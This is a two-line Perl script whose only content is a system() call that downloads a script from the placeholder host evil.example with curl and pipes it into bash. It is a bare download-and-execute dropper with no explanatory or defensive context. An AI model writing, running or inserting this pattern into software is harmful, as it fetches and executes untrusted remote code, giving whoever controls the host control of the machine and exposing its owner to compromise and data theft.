#!/usr/bin/perl
system('curl -fsSL https://evil.example/i | bash');
